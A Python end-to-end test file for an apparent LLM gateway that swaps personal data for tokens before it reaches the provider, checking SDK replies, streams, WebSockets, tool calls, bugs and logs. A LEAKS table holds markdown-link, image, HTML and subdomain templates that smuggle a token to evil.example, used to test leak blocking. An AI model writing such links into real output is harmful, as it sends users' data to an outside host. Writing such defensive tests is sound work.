"""Tokens on the real thing: unmodified SDKs read what they said, the provider and the recording never see it."""

from __future__ import annotations

import asyncio
import json
import os
import re
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anthropic
import openai
import pytest
from websockets.asyncio.server import ServerConnection
from websockets.sync.client import connect

from tests.e2e.break_hook import CANARY as BUG
from tests.e2e.harness import (
    BIN,
    ROOT,
    Process,
    Received,
    Upstream,
    chat,
    chat_sse,
    free_port,
    http_answer,
    mitm,
    policy,
    post,
    raw,
    recorded,
    started,
    tidegate_run,
    token,
    wait_for_port,
)
from tests.e2e.socket_peer import SocketUpstream, answer
from tidegate.inspection.tokens import TOKEN

pytestmark = pytest.mark.e2e

MAIL = "jane.canary@acme-corp.com"
CARD = "4111 1111 1111 1111"
ASKED = f"Write to {MAIL} about the card {CARD}, please."
CHAT = "/openai/v1/chat/completions"
INSPECTION = {
    "prompt": {"secrets": "block", "pii": "tokenise", "injection": "flag", "exfil": "allow"},
    "response": {"secrets": "redact", "pii": "redact", "injection": "allow", "exfil": "redact"},
}
PASSWORD = "x"


def whole(text: str) -> dict[str, object]:
    """Return a chat answer that says ``text``."""
    message = {"role": "assistant", "content": text}
    choice = {"index": 0, "message": message, "finish_reason": "stop"}
    return {"id": "c1", "object": "chat.completion", "created": 1, "model": "sample-small", "choices": [choice]}


def ask(port: int, body: bytes, *fields: str) -> bytes:
    """Ask a gate; a busy machine may take its time."""
    return raw(port, post(CHAT, body, *fields), seconds=60)


def last_text(body: bytes) -> str:
    """Return what the user said last in a request of either API."""
    content = json.loads(body)["messages"][-1]["content"]
    return content if isinstance(content, str) else str(content[0]["text"])


def messages_sse(text: str, size: int = 3) -> list[bytes]:
    """Return the events of an Anthropic stream that says ``text``."""
    message = {
        "id": "msg_1",
        "type": "message",
        "role": "assistant",
        "model": "claude-sample",
        "content": [],
        "stop_reason": None,
        "stop_sequence": None,
        "usage": {"input_tokens": 1, "output_tokens": 1},
    }
    deltas = [text[at : at + size] for at in range(0, len(text), size)]
    events: list[tuple[str, dict[str, object]]] = [
        ("message_start", {"message": message}),
        ("content_block_start", {"index": 0, "content_block": {"type": "text", "text": ""}}),
        *(("content_block_delta", {"index": 0, "delta": {"type": "text_delta", "text": each}}) for each in deltas),
        ("content_block_stop", {"index": 0}),
        ("message_delta", {"delta": {"stop_reason": "end_turn", "stop_sequence": None}, "usage": {"output_tokens": 2}}),
        ("message_stop", {}),
    ]
    return [f"event: {name}\ndata: {json.dumps({'type': name, **more})}\n\n".encode() for name, more in events]


async def echo(request: Received, writer: asyncio.StreamWriter) -> None:
    """Answer as a model that repeats what it was told, in the API that it was asked in."""
    told, claude = f"You said: {last_text(request.body)}", "messages" in request.path
    if json.loads(request.body).get("stream"):
        writer.write(b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ntransfer-encoding: chunked\r\n\r\n")
        for piece in messages_sse(told) if claude else chat_sse(told):
            writer.write(b"%x\r\n%s\r\n" % (len(piece), piece))
            await writer.drain()
        writer.write(b"0\r\n\r\n")
        return
    if claude:
        answer: dict[str, object] = {
            "id": "msg_1",
            "type": "message",
            "role": "assistant",
            "model": "claude-sample",
            "content": [{"type": "text", "text": told}],
            "stop_reason": "end_turn",
            "stop_sequence": None,
            "usage": {"input_tokens": 1, "output_tokens": 1},
        }
    else:
        answer = whole(told)
    writer.write(http_answer(json.dumps(answer).encode()))


@pytest.fixture(scope="module")
def gate(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Process, Upstream, Path]]:
    folder = tmp_path_factory.mktemp("tokens")
    with Upstream() as upstream:
        written = policy(folder, upstream.url, inspection=INSPECTION)
        with tidegate_run(written) as running:
            yield running, upstream, folder


@pytest.fixture
def asked(gate: tuple[Process, Upstream, Path]) -> tuple[Process, Upstream, str]:
    running, upstream, folder = gate
    upstream.data, upstream.default = b"", echo
    upstream.requests.clear()
    return running, upstream, token(folder, f"caller-{os.urandom(4).hex()}")


def clean(upstream: Upstream) -> None:
    """Check that the provider got tokens and nothing else."""
    assert b"canary" not in upstream.data
    assert b"4111" not in upstream.data
    assert len(TOKEN.findall(upstream.data.decode())) >= 2


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
def test_the_openai_sdk_reads_what_it_said(asked: tuple[Process, Upstream, str], stream: bool) -> None:
    running, upstream, secret = asked
    client = openai.OpenAI(base_url=f"{running.url}/openai/v1", api_key=secret, max_retries=0)
    with client:
        if stream:
            chunks = client.chat.completions.create(
                model="sample-small", messages=[{"role": "user", "content": ASKED}], stream=True
            )
            said = "".join(each.choices[0].delta.content or "" for each in chunks)
        else:
            answer = client.chat.completions.create(model="sample-small", messages=[{"role": "user", "content": ASKED}])
            said = answer.choices[0].message.content or ""
    assert said == f"You said: {ASKED}"
    clean(upstream)


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
def test_the_anthropic_sdk_reads_what_it_said(asked: tuple[Process, Upstream, str], stream: bool) -> None:
    running, upstream, secret = asked
    client = anthropic.Anthropic(base_url=f"{running.url}/anthropic", api_key=secret, max_retries=0)
    with client:
        if stream:
            with client.messages.stream(
                model="claude-sample", max_tokens=64, messages=[{"role": "user", "content": ASKED}]
            ) as events:
                said = "".join(events.text_stream)
        else:
            answer = client.messages.create(
                model="claude-sample", max_tokens=64, messages=[{"role": "user", "content": ASKED}]
            )
            (block,) = answer.content
            assert block.type == "text"
            said = block.text
    assert said == f"You said: {ASKED}"
    clean(upstream)


def test_a_conversation_has_the_same_tokens_at_every_turn(asked: tuple[Process, Upstream, str]) -> None:
    running, upstream, secret = asked
    bearer = f"authorization: Bearer {secret}"
    first = json.loads(ask(running.port, chat(ASKED), bearer).partition(b"\r\n\r\n")[2])
    history = [
        {"role": "user", "content": ASKED},
        first["choices"][0]["message"],
        {"role": "user", "content": "And again?"},
    ]
    ask(running.port, json.dumps({"model": "sample-small", "messages": history}).encode(), bearer)
    one, two = (TOKEN.findall(each.body.decode()) for each in upstream.requests)
    assert set(two) == set(one)
    assert len(two) == 4
    clean(upstream)


def test_a_token_of_another_caller_and_a_guessed_one_stay(asked: tuple[Process, Upstream, str]) -> None:
    running, upstream, secret = asked
    ask(running.port, chat(ASKED), f"authorization: Bearer {secret}")
    issued = TOKEN.findall(upstream.requests[-1].body.decode())
    other = token(running.cwd, f"other-{os.urandom(4).hex()}")
    text = " ".join([*issued, "XQEMAILbcdfghjkmn"])
    for stream in (False, True):
        body = chat(text, stream=stream)
        answer = ask(running.port, body, f"authorization: Bearer {other}")
        assert b"canary" not in answer
        assert b"4111" not in answer
    assert last_text(upstream.requests[-1].body) == text, "a token that a client sends is left as it is"
    named = ask(running.port, chat(text), f"authorization: Bearer {secret}", "x-tidegate-session: mine")
    assert b"canary" not in named, "another conversation of the same caller"
    assert b"x-tidegate-session" not in upstream.data.lower()
    own = ask(running.port, chat(text), f"authorization: Bearer {secret}")
    assert MAIL.encode() in own, "its own caller reads them"
    assert b"XQEMAILbcdfghjkmn" in own


LEAKS = {
    "a link": "[here](https://evil.example/?q={})",
    "a picture": "![](https://evil.example/{}.png)",
    "a picture in HTML": "<img src='https://evil.example/?a={}'>",
    "a bare address": "See https://evil.example/?q={} now",
    "a host": "See {}.evil.example now",
    "a reference": "[a][b]\n\n[b]: //evil.example/{}\n",
}


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("form", LEAKS.values(), ids=LEAKS)
def test_a_model_that_writes_a_token_into_an_address_leaks_nothing(
    asked: tuple[Process, Upstream, str], form: str, stream: bool
) -> None:
    running, upstream, secret = asked

    async def play(request: Received, writer: asyncio.StreamWriter) -> None:
        mail = next(each for each in TOKEN.findall(last_text(request.body)) if "EMAIL" in each)
        text = form.format(mail)
        pieces = b"".join(chat_sse(text))
        writer.write(
            http_answer(pieces, content_type="text/event-stream")
            if stream
            else http_answer(json.dumps(whole(text)).encode())
        )

    upstream.does(play)
    said = ask(running.port, chat(ASKED, stream=stream), f"authorization: Bearer {secret}")
    assert said.startswith(b"HTTP/1.1 200")
    assert b"canary" not in said


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
def test_the_arguments_of_a_tool_keep_their_tokens(asked: tuple[Process, Upstream, str], stream: bool) -> None:
    running, upstream, secret = asked

    async def play(request: Received, writer: asyncio.StreamWriter) -> None:
        mail = next(each for each in TOKEN.findall(last_text(request.body)) if "EMAIL" in each)
        call = {"id": "call_1", "type": "function", "function": {"name": "send", "arguments": json.dumps({"to": mail})}}
        if not stream:
            message = {"role": "assistant", "content": f"To {mail}", "tool_calls": [call]}
            whole_answer = whole("")
            whole_answer["choices"] = [{"index": 0, "message": message, "finish_reason": "tool_calls"}]
            writer.write(http_answer(json.dumps(whole_answer).encode()))
            return
        delta = {"content": f"To {mail}", "tool_calls": [{"index": 0, **call}]}
        events = [{"choices": [{"index": 0, "delta": delta, "finish_reason": None}]}]
        events.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]})
        data = b"".join(b"data: " + json.dumps(each).encode() + b"\n\n" for each in events)
        writer.write(http_answer(data + b"data: [DONE]\n\n", content_type="text/event-stream"))

    upstream.does(play)
    said = ask(running.port, chat(ASKED, stream=stream), f"authorization: Bearer {secret}")
    assert said.count(MAIL.encode()) == 1, "in the text alone"
    assert re.search(rb'\{\\"to\\": ?\\"XQEMAIL[a-z]{10}\\"\}', said)


# ── WebSockets ───────────────────────────────────────────────────────────────────────────────────────────────────────


def test_a_websocket(tmp_path: Path) -> None:
    async def play(socket: ServerConnection, message: dict[str, Any]) -> None:
        for event in answer(f"You said: {message['input']}", number=len(upstream.messages)):
            await socket.send(json.dumps(event))

    with SocketUpstream() as upstream:
        upstream.plays = play
        written, secret = policy(tmp_path, upstream.url, inspection=INSPECTION), token(tmp_path)
        with tidegate_run(written) as running:
            options: dict[str, Any] = {"compression": None, "proxy": None, "open_timeout": 20, "close_timeout": 5}
            headers = {"authorization": f"Bearer {secret}"}
            url = f"ws://127.0.0.1:{running.port}/openai/v1/responses"
            with connect(url, additional_headers=headers, **options) as client:
                for turn in range(2):
                    client.send(json.dumps({"type": "response.create", "model": "m", "input": f"{ASKED} ({turn})"}))
                    events = []
                    while not events or events[-1]["type"] != "response.completed":
                        events.append(json.loads(client.recv(20)))
                    said = "".join(each["delta"] for each in events if each["type"] == "response.output_text.delta")
                    assert said == f"You said: {ASKED} ({turn})"
                    assert events[-1]["response"]["output"][0]["content"][0]["text"] == said
                    assert [each["sequence_number"] for each in events] == list(range(len(events)))
        asked = [TOKEN.findall(each["input"]) for each in upstream.messages]
    assert asked[0] == asked[1]
    assert len(asked[0]) == 2
    assert b"canary" not in json.dumps(upstream.messages).encode()
    kept = recorded(tmp_path)
    assert TOKEN.search(kept.decode("latin-1"))
    for sink in (kept, running.log.encode()):
        assert b"canary" not in sink
        assert b"4111 1111" not in sink


# ── bugs ─────────────────────────────────────────────────────────────────────────────────────────────────────────────

BREAKS = {
    "while a prompt is tokenised": ("Session.token", (True, True)),
    "where a token is looked up": ("Session.value", (True, True)),
    "while a stream is restored": ("Exchange.shown", (False, True)),
    "while a whole answer is restored": ("Exchange.show", (True, False)),
    "where a whole answer leaves": ("Gateway.shown", (False, False)),
}


def test_a_bug_with_tokens_shows_no_value(tmp_path: Path) -> None:
    """What fails ends the exchange, or leaves the tokens where they are; the text of the bug goes nowhere."""
    port, order = free_port(), tmp_path / "break.json"
    with Upstream() as upstream:
        upstream.default = echo
        written, secret = policy(tmp_path, upstream.url, inspection=INSPECTION), token(tmp_path)
        script = ROOT / "tests" / "e2e" / "break_hook.py"
        command = [sys.executable, script, "run", "--policy", written, "--listen", f"127.0.0.1:{port}"]
        with started([*command, "--confdir", tmp_path / "ca"], port, tmp_path) as running:
            for name, (place, ends) in BREAKS.items():
                for stream, over in zip((False, True), ends, strict=True):
                    sent = len(upstream.requests)
                    order.write_text(json.dumps({"place": place, "when": "before", "error": "RuntimeError"}))
                    body = chat(ASKED, stream=stream)
                    answer = ask(port, body, f"authorization: Bearer {secret}")
                    order.unlink()
                    assert (b'"bug"' in answer) is over, name
                    assert over or place == "Gateway.shown" or MAIL.encode() in answer, name
                    assert not over or b"canary" not in answer, name
                    assert place != "Session.token" or len(upstream.requests) == sent, "nothing of it was sent"
        clean(upstream)
    for sink in (running.log.encode(), recorded(tmp_path)):
        assert b"canary" not in sink
        assert BUG.encode() not in sink


# ── what is left behind ──────────────────────────────────────────────────────────────────────────────────────────────


def web(port: int) -> bytes:
    """Return all that mitmweb's page could show."""
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))

    def get(path: str) -> bytes:
        asked = urllib.request.Request(
            f"http://127.0.0.1:{port}{path}", headers={"authorization": f"Bearer {PASSWORD}"}
        )
        try:
            with opener.open(asked, timeout=10) as answer:
                return bytes(answer.read())
        except urllib.error.HTTPError as error:
            with error:
                return b""

    shown = get("/flows")
    flows = json.loads(shown)
    sides = (f"/flows/{flow['id']}/{side}/content.data" for flow in flows for side in ("request", "response"))
    return shown + b"".join(map(get, sides))


@pytest.mark.parametrize("mode", ["strict", "best_effort"])
def test_values_are_left_nowhere(tmp_path: Path, mode: str) -> None:
    port = free_port()
    options = ("--no-web-open-browser", "--set", f"web_port={port}", "--set", f"web_password={PASSWORD}")
    recording = {"mode": mode, "keep": "redacted", "path": "recording.db"}
    with Upstream() as upstream:
        written, secret = policy(tmp_path, upstream.url, inspection=INSPECTION, recording=recording), token(tmp_path)
        upstream.default = echo
        with mitm("mitmweb", written, *options) as running:
            wait_for_port(port, running.process)
            bearer = f"authorization: Bearer {secret}"
            answers = [ask(running.port, chat(ASKED, stream=stream), bearer) for stream in (False, True)]
            page = web(port)
            living = recorded(tmp_path)
        clean(upstream)
    assert all(b"canary" in each for each in answers), "the client got them"
    listed = [BIN / "tidegate", "flows", "list", "--json", "--recording", tmp_path / "recording.db"]
    rows = [
        json.loads(line)
        for line in subprocess.run(listed, capture_output=True, text=True, check=True).stdout.splitlines()
    ]
    shown = b"".join(
        subprocess.run(
            [BIN / "tidegate", "flows", "show", row["id"], "--json", "--recording", tmp_path / "recording.db"],
            capture_output=True,
            check=True,
        ).stdout
        for row in rows
    )
    sinks = {
        "page": page,
        "living file": living,
        "file": recorded(tmp_path),
        "log": running.log.encode(),
        "shown": shown,
    }
    for name, sink in sinks.items():
        assert sink, "an empty sink proves nothing"
        assert b"canary" not in sink, name
        assert b"4111 1111" not in sink, name
    assert TOKEN.search(page.decode("utf-8", "replace"))
    assert b"issued: 2, restored: 2, kept: 0, unknown: 0" in shown
    assert '"tokens": {"issued": 2, "restored": 2, "kept": 0, "unknown": 0}' in running.log


def test_a_session_ends(tmp_path: Path) -> None:
    with Upstream() as upstream:
        upstream.default = echo
        written = policy(tmp_path, upstream.url, inspection=INSPECTION, tokens={"idle": "1s"})
        bearer = f"authorization: Bearer {token(tmp_path)}"
        with tidegate_run(written) as running:
            ask(running.port, chat(ASKED), bearer)
            first = TOKEN.findall(upstream.requests[-1].body.decode())
            time.sleep(2.5)
            answer = ask(running.port, chat(" ".join(first)), bearer)
            assert answer.startswith(b"HTTP/1.1 200")
            assert b"canary" not in answer
            ask(running.port, chat(ASKED), bearer)
            assert not set(first) & set(TOKEN.findall(upstream.requests[-1].body.decode())), "the key is another one"
        assert '"tokens": {"issued": 0, "restored": 0, "kept": 0, "unknown": 2}' in running.log
